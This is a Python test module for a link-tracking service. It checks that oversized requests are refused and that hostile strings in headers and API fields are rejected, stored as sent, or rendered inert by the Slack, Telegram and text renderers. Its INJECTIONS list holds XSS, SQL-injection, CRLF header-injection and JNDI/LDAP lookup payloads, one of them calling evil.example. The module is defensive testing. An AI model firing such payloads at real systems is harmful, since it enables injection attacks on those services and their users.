"""Drill 5c/5d: oversized requests, and injection or markup strings wherever a user can put text.

Oversized bodies get 413 and oversized headers 400/431 (aiohttp's limits),
never a 5xx and never a stored visit. Hostile strings in a visit's user
agent and referrer are stored as sent (cropped to the column, cut at a
CR/LF that ends the header) and never come back as a response header; in a
link's campaign or slug they are refused with 400 and leave no row; as a
sharer's name they are stored, and every way of showing them — `lantern
stats --json`, the text, Slack and Telegram renderers — shows them inert.
"""

from __future__ import annotations

import asyncio
import json
import sqlite3
from contextlib import closing
from datetime import UTC, datetime, timedelta

import aiohttp

from bench.servers import lantern, shorten
from drills import raw_http
from drills.harness import BROWSER, Scratch, api_key, cli, count_rows, scratch
from drills.hostile_urls import OWN_HOST
from drills.result import DrillResult
from tracking.core.questions.model import Answer, GroupBy, Interpretation, Metric, Row
from tracking.core.questions.render import render_html, render_mrkdwn, render_text
from tracking.storage.tables import visit_text_sizes

MAX_USER_AGENT = visit_text_sizes().size("user_agent")
MAX_REFERRER = visit_text_sizes().size("referrer")

INJECTIONS = [
    "<script>alert(1)</script>",
    "<https://evil.example|click>",
    "'; DROP TABLE links; --",
    "evil\r\nSet-Cookie: x=1",
    "<!channel> @here",
    '"><img src=x onerror=alert(1)>',
    "${jndi:ldap://evil.example/a}",
    "Robert'); DELETE FROM visits;--",
    "x" * 600 + "<script>alert(2)</script>",
]
#: Markup that must never survive into Slack mrkdwn or Telegram HTML.
RAW_MARKUP = ("<script>", "<https://evil", "<!channel>", "<img")
#: The API keeps this much of a sharer's name (tracking/web/api.py).
MAX_SHARER_NAME = 256

Oversized = tuple[str, bytes, frozenset[int]]


def _oversized(slug: str, key: str) -> list[Oversized]:
    """(what, raw request, statuses allowed); the last one stays just under the limits and redirects."""
    auth = ("Authorization", f"Bearer {key}")
    json_type = ("Content-Type", "application/json")
    big = json.dumps({"url": "https://example.com/" + "a" * 100_000}).encode()
    huge = json.dumps({"url": "https://example.com/", "campaign": "c" * 1_048_576}).encode()
    header_limit = frozenset({400, 431})

    def visit(*headers: tuple[str, str], query: str = "") -> bytes:
        return raw_http.request("GET", f"/{slug}{query}", list(headers))

    def create(body: bytes) -> bytes:
        return raw_http.request("POST", "/api/v1/links", [auth, json_type], body)

    stats = raw_http.request("GET", "/api/v1/stats?q=clicks", [("Authorization", "B" * 102_400)])
    return [
        ("API body of 100 KiB", create(big), frozenset({413})),
        ("API body of 1 MiB", create(huge), frozenset({413})),
        ("User-Agent of 16 KiB", visit(("User-Agent", "u" * 16_384)), header_limit),
        ("Referer of 64 KiB", visit(("Referer", "r" * 65_536)), header_limit),
        ("300 headers", visit(*[(f"X-Pad-{n}", "p") for n in range(300)]), header_limit),
        ("request line of 20 KiB", visit(query="?q=" + "q" * 20_480), frozenset({400, 414})),
        ("Authorization of 100 KiB", stats, header_limit),
        ("User-Agent of 8,000 bytes (under the limit)", visit(("User-Agent", "w" * 8_000)), frozenset({302})),
    ]


async def _send_oversized(target: Scratch, slug: str, key: str) -> list[tuple[str, int, frozenset[int]]]:
    answers = []
    for what, request, allowed in _oversized(slug, key):
        response = await raw_http.send(target.port, request)
        answers.append((what, response.status, allowed))
    return answers


def oversized_drill() -> DrillResult:
    """Each oversized request once; visits counted before and after."""
    result = DrillResult("5. oversized bodies and headers (sqlite)")
    with scratch("sqlite", "big") as target:
        slug = shorten(target.env)
        key = api_key(target)
        with lantern(target.env, 1, target.folder / "serve.log"):
            before = asyncio.run(count_rows(target.url, "visits"))
            answers = asyncio.run(_send_oversized(target, slug, key))
            after = asyncio.run(count_rows(target.url, "visits"))
    redirected = sum(status == 302 for _, status, _ in answers)
    for what, status, allowed in answers:
        result.expect(status in allowed, f"{what}: {status or 'no answer'}, expected {sorted(allowed)}")
    result.requests = len(answers)
    result.visits_stored = after - before
    result.refused = sum(400 <= status < 500 for _, status, _ in answers)
    result.expect(after - before == redirected, f"{after - before} visits stored for {redirected} redirects")
    result.figure = "; ".join(f"{what} → {status}" for what, status, _ in answers)
    return result


async def _visit_with(target: Scratch, slug: str) -> list[tuple[str, raw_http.RawResponse]]:
    """One raw GET per hostile string, in both the User-Agent and the Referer."""
    answers = []
    for text in INJECTIONS:
        headers = [("User-Agent", text), ("Referer", text)]
        answers.append((text, await raw_http.send(target.port, raw_http.request("GET", f"/{slug}", headers))))
    return answers


async def _link_requests(target: Scratch, key: str) -> tuple[list[str], int]:
    """Hostile campaign and slug (each must be a 400) and hostile sharer names (stored); the slugs made."""
    problems, made = [], []
    headers = {"Authorization": f"Bearer {key}"}
    async with aiohttp.ClientSession(headers={**headers, "User-Agent": BROWSER}) as session:
        api = f"{target.origin}/api/v1/links"
        for n, text in enumerate(INJECTIONS):
            for field in ("campaign", "slug"):
                async with session.post(api, json={"url": f"https://example.com/{field}", field: text}) as r:
                    body = await r.json()
                    if r.status != 400 or body.get("error") != "invalid_input":
                        problems.append(f"{field} {text[:40]!r}: {r.status} {body.get('error')}")
            async with session.post(api, json={"url": f"https://example.com/by/{n}", "sharer": text}) as r:
                if r.status != 201:
                    problems.append(f"sharer {text[:40]!r}: {r.status}")
                    continue
                made.append((await r.json())["slug"])
        for slug in made:  # one click each, so the stats have these sharers in them
            async with session.get(f"{target.origin}/{slug}", allow_redirects=False) as r:
                if r.status != 302:
                    problems.append(f"the link of a hostile sharer answered {r.status}")
    return problems, len(made)


def _stored(target: Scratch) -> tuple[set[tuple[str | None, str | None]], set[str]]:
    """(user agent, referrer) of every visit, and every sharer's display name, read with plain sqlite3."""
    with closing(sqlite3.connect(target.sqlite_file)) as connection:
        visits = set(connection.execute("SELECT user_agent, referrer FROM visits").fetchall())
        names = {row[0] for row in connection.execute("SELECT display_name FROM sharers")}
    return visits, names


def _expected(text: str, limit: int) -> str:
    """What a header value becomes: cut at the CR/LF that ends the header line, then cropped."""
    return text.split("\r\n", 1)[0][:limit]


def _render_problems() -> list[str]:
    """Row labels made of hostile strings, through every chat renderer and the plain-text one."""
    start = datetime(2026, 11, 23, tzinfo=UTC)
    interpretation = Interpretation(
        Metric.CLICKS, start, start + timedelta(days=7), "this week", group_by=GroupBy.CAMPAIGN
    )
    rows = tuple(Row(text, text, n + 1) for n, text in enumerate(INJECTIONS))
    answer = Answer(interpretation, total=sum(r.value for r in rows), previous_total=3, rows=rows)
    problems = []
    for name, out in (("mrkdwn", render_mrkdwn(answer)), ("html", render_html(answer))):
        problems += [f"{name} shows raw {m!r}" for m in RAW_MARKUP if m in out]
    # Plain text is not markup: a terminal shows "<script>" as text, so the CLI must not escape it;
    # what it must not do is let a label break a line, or carry control characters.
    text = render_text(answer)
    problems += [f"text shows a control character {c!r}" for c in ("\r", "\x1b", "\x00") if c in text]
    problems += [
        f"text line forged by a label: {line!r}" for line in text.splitlines() if line.startswith("Set-")
    ]
    return problems


def injection_drill() -> DrillResult:
    """Hostile strings in visits, link requests and stats."""
    result = DrillResult("5. injection and markup strings (sqlite)")
    settings = {"LANTERN_BASE_URL": f"https://{OWN_HOST}", "LANTERN_LINK_RATE_PER_MINUTE": "0"}
    with scratch("sqlite", "inject", **settings) as target:
        slug = shorten(target.env)
        key = api_key(target)
        with lantern(target.env, 1, target.folder / "serve.log"):
            links_before = asyncio.run(count_rows(target.url, "links"))
            visits_before = asyncio.run(count_rows(target.url, "visits"))
            answers = asyncio.run(_visit_with(target, slug))
            visits_added = asyncio.run(count_rows(target.url, "visits")) - visits_before
            link_problems, sharer_links = asyncio.run(_link_requests(target, key))
            links_after = asyncio.run(count_rows(target.url, "links"))
        stored, sharer_names = _stored(target)
        as_json = cli(target.env, "stats", "--json", "clicks by sharer today", folder=target.folder)
        as_text = cli(target.env, "stats", "clicks by sharer today", folder=target.folder)
    for text, response in answers:
        result.expect(response.status == 302, f"visit with {text[:40]!r}: {response.status}")
        result.expect(not response.header("set-cookie"), f"visit with {text[:40]!r} answered a Set-Cookie")
        pair = (_expected(text, MAX_USER_AGENT), _expected(text, MAX_REFERRER))
        result.expect(pair in stored, f"no visit stored with user agent/referrer {pair[0][:40]!r}")
    result.failures += link_problems
    missing = [text[:40] for text in INJECTIONS if text[:MAX_SHARER_NAME] not in sharer_names]
    result.expect(not missing, f"sharer names not stored as sent: {missing}")
    result.expect(
        links_after - links_before == sharer_links,
        f"{links_after - links_before} links added; only the {sharer_links} with hostile sharers should be",
    )
    try:
        answer = json.loads(as_json.stdout)
        rows = len(answer["rows"])
    except (ValueError, KeyError) as error:
        rows = 0
        result.failures.append(
            f"`lantern stats --json` is not a JSON answer: {error}: {as_json.stderr[-200:]}"
        )
    result.expect(as_text.returncode == 0 and "\r" not in as_text.stdout, "`lantern stats` text is not clean")
    render_problems = _render_problems()
    result.failures += render_problems
    result.requests = len(answers) + 3 * len(INJECTIONS)
    result.visits_stored = visits_added
    redirected = sum(r.status == 302 for _, r in answers)
    result.expect(visits_added == redirected, f"{visits_added} visits stored for {redirected} redirects")
    result.refused = 2 * len(INJECTIONS) - sum(p.startswith(("campaign", "slug")) for p in link_problems)
    result.figure = (
        f"{len(INJECTIONS)} strings: in user agent and referrer {redirected} "
        f"visits redirected and stored as sent (cropped to {MAX_USER_AGENT}/{MAX_REFERRER}, cut at CR/LF), "
        f"no Set-Cookie answered; as campaign or slug {result.refused} × 400 and no row; as sharer "
        f"{sharer_links} links stored; `lantern stats --json` valid JSON with {rows} sharer rows; "
        f"renderers: {len(render_problems)} problems"
    )
    return result


def run() -> list[DrillResult]:
    """Oversized requests, then hostile strings."""
    return [oversized_drill(), injection_drill()]
